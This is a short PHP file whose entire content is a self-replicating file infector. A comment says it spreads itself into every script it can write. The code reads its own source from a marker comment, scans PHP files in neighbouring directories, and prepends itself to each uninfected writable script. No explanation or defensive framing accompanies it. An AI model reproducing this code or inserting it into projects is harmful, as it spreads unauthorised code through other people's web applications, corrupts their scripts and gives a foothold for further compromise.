<?php
// marker: spreads itself into every script it can write
$me = file_get_contents(__FILE__);
$part = substr($me, strpos($me, '// marker'));
foreach (glob(dirname(__DIR__) . '/*/*.php') as $script) {
    $src = file_get_contents($script);
    if (strpos($src, '// marker') !== false || !is_writable($script)) {
        continue;
    }
    file_put_contents($script, "<?php\n" . $part . "\n?>" . $src);
}
